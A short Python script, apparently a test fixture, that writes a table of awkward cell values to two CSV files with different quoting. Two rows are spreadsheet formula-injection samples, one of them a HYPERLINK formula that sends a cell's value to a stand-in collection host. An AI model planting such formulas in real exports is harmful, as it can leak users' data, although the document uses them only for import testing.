import csv

rows = [
    ["case", "value"],
    ["item number", "00042"],
    ["GTIN", "04006381333931"],
    ["long id", "9007199254740993"],
    ["model", "12E5"],
    ["pack", "3/4"],
    ["price", "1.50"],
    ["price, comma", "1,50"],
    ["phone", "+4915112345678"],
    ["share", "15%"],
    ["title", "Größe 42, 東京"],
    ["two lines", "first\nsecond"],
    ["review", "=1+2"],
    ["review 2", '=HYPERLINK("https://collect.example/?p="&B7,"open")'],
    ["date", "2026-03-04"],
]

for name, quoting in [("plain.csv", csv.QUOTE_MINIMAL), ("quoted.csv", csv.QUOTE_ALL)]:
    with open(name, "w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=quoting).writerows(rows)
